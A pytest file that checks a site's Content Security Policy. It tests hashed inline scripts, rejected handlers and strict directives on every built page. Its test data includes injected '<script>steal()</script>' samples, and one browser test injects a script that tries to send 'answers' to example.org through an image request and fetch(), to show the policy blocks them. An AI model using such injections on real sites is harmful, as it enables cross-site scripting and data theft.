"""Each page's Content Security Policy: strict, complete, and true to what the page holds."""

import base64
import hashlib

import jinja2
import pytest
from playwright.sync_api import Browser

from macros.content.places import SINGLE
from macros.site.policy import OwnCode, PolicyError, protect
from tests.conftest import SITE

PAGE = '<!doctype html><html lang="de"><head><meta charset="utf-8"><title>x</title>{}</head><body>{}</body></html>'


def policy(page: str) -> dict[str, str]:
    """The directives that a page's meta element names."""
    _, _, rest = page.partition('http-equiv="Content-Security-Policy" content="')
    content, _, _ = rest.partition('"')
    return dict(directive.strip().split(" ", 1) for directive in content.split(";"))


def digest(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_inline_scripts_and_styles_are_named_by_their_hashes() -> None:
    script, style = 'if (1 < 2 && "ü") run()\n', "p { color: red }"
    page = PAGE.format(f"<style>{style}</style>", f"<script>{script}</script>")
    found = policy(protect(page, {script, style}))
    assert found["script-src"] == f"'self' {digest(script)}"
    assert found["style-src"] == f"'self' {digest(style)}"


def test_data_is_no_script() -> None:
    data = '<script type="application/json">{"a": 1}</script><script src="a.js"></script>'
    assert policy(protect(PAGE.format("", data), set()))["script-src"] == "'self'"


def test_a_page_may_be_held_tighter_than_the_others() -> None:
    tight = {"script-src": "'none'", "style-src": "'none'"}
    assert policy(protect(PAGE.format("", ""), set(), tight))["script-src"] == "'none'"
    found = policy(protect(PAGE.format("", "<script>run()</script>"), {"run()"}, tight))
    assert found["script-src"] == digest("run()")
    assert found["style-src"] == "'none'"


def test_the_policy_stands_before_everything_that_it_governs() -> None:
    page = protect(PAGE.format("<script>run()</script>", ""), {"run()"})
    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("<script>")


@pytest.mark.parametrize("body", ['<p style="color: red">x</p>', '<p onclick="run()">x</p>'])
def test_what_no_policy_allows_is_named(body: str) -> None:
    with pytest.raises(PolicyError, match="<p>"):
        protect(PAGE.format("", body), set())


@pytest.mark.parametrize(
    "smuggled",
    [
        "<script>run() </script>",
        '<script type="module">steal()</script>',
        '<script type="importmap">{}</script>',
        '<SCRIPT TYPE="Text/JavaScript">steal()</SCRIPT>',
        "<style>p { background: url(https://example.org) }</style>",
        "<svg><script>steal()</script></svg>",
    ],
)
def test_what_the_build_did_not_write_itself_gets_no_hash_but_stops_it(smuggled: str) -> None:
    with pytest.raises(PolicyError, match="not the build's own"):
        protect(PAGE.format("<script>run()</script>", smuggled), {"run()"})


def test_what_our_templates_write_is_the_builds_own() -> None:
    own = OwnCode()
    environment = jinja2.Environment(autoescape=True)
    environment.filters["own_code"] = own
    template = environment.from_string("<script>{% filter own_code %}a < {{ b }}{% endfilter %}</script>{{ c }}")
    page = template.render(b=1, c="<script>steal()</script>")
    assert page == "<script>a < 1</script>&lt;script&gt;steal()&lt;/script&gt;"
    assert own.texts == {"a < 1"}


def test_a_page_without_its_charset_is_refused() -> None:
    with pytest.raises(PolicyError, match="charset"):
        protect("<!doctype html><title>x</title>", set())


@pytest.mark.parametrize("address", [path.relative_to(SITE).as_posix() for path in sorted(SITE.rglob("*.html"))])
def test_every_built_page_has_a_strict_policy(address: str) -> None:
    found = policy((SITE / address).read_text(encoding="utf-8"))
    assert found["default-src"] == found["base-uri"] == found["form-action"] == "'none'"
    assert found.get("connect-src", found["default-src"]) == "'none'"
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "https:", "http:"} & set(" ".join(found.values()).split())


def test_lean_pages_and_the_guide_in_one_file_allow_no_more_than_they_load() -> None:
    """What a policy leaves out, `default-src 'none'` forbids; workers alone fall back to what holds for scripts."""
    loading = {"worker-src", "frame-src", "manifest-src", "connect-src"}
    for path in [*(SITE / "bogen").glob("*.html"), SITE / SINGLE]:
        found = policy(path.read_text(encoding="utf-8"))
        assert not loading & found.keys(), path.name
    # Scripts in the file itself have hashes, which no address of a worker or of another script fits.
    single = policy((SITE / SINGLE).read_text(encoding="utf-8"))
    for name in ("script-src", "style-src"):
        assert all(source.startswith("'sha256-") for source in single[name].split())
    assert single["img-src"] == "data:"


def test_a_script_that_somebody_smuggles_in_does_not_run_and_can_send_nothing(browser: Browser, home: str) -> None:
    refused: list[str] = []

    def note(directive: str) -> None:
        refused.append(directive)

    with browser.new_context() as context:  # The usual one takes a refusal for a fault of the page.
        page = context.new_page()
        page.expose_function("note", note)
        page.add_init_script("addEventListener('securitypolicyviolation', (event) => note(event.effectiveDirective))")
        page.goto(f"{home}arbeitsblaetter/vorbereitung.html")
        page.evaluate(
            """async () => {
                const script = document.createElement("script");
                script.textContent = "window.smuggled = true";
                document.body.append(script);
                document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.smuggled = true'>");
                new Image().src = "https://example.org/?answers";
                await fetch("https://example.org/").catch(() => {});
            }"""
        )
        while not {"script-src-elem", "script-src-attr", "connect-src", "img-src"} <= set(refused):
            page.evaluate("new Promise(requestAnimationFrame)")
        assert page.evaluate("window.smuggled") is None
